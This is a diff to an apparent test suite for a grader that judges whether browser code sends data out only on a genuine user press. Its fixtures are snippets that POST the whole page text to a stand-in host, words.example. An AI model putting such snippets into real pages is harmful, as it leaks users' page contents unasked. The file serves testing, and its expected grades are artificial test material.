@@ -90,6 +90,27 @@ describe('what is sent to its maker by itself', () => {
   });
 });
 
+describe('what is pressed', () => {
+  const send = "fetch('https://words.example/', { method: 'POST', body: document.body.innerText })";
+  const made = "const one = document.createElement('button'); document.body.append(one); ";
+
+  it.each([
+    `${made} one.addEventListener('mousedown', () => ${send});`,
+    `${made} one.onpointerdown = () => ${send};`,
+    `render(h('button', { onMouseDown: () => ${send} }), document.body);`,
+  ])('asks for it as a click does: %s', async (content) => {
+    expect(await graded({ content })).toMatch(/^A/);
+  });
+  it.each([
+    `document.addEventListener('mousedown', () => ${send});`,
+    `document.querySelector('.send').onpointerdown = () => ${send};`,
+    `${made} one.addEventListener('mouseover', () => ${send});`,
+    `render(h('button', { onMouseEnter: () => ${send} }), document.body);`,
+  ])('asks for nothing where it is the page’s or only passed over: %s', async (content) => {
+    expect(await graded({ content })).toBe('D');
+  });
+});
+
 describe('a function that both a click and something else leads to', () => {
   const post =
     "const post = (body) => fetch('https://api.maker.example/', { method: 'POST', body: JSON.stringify(body) });";
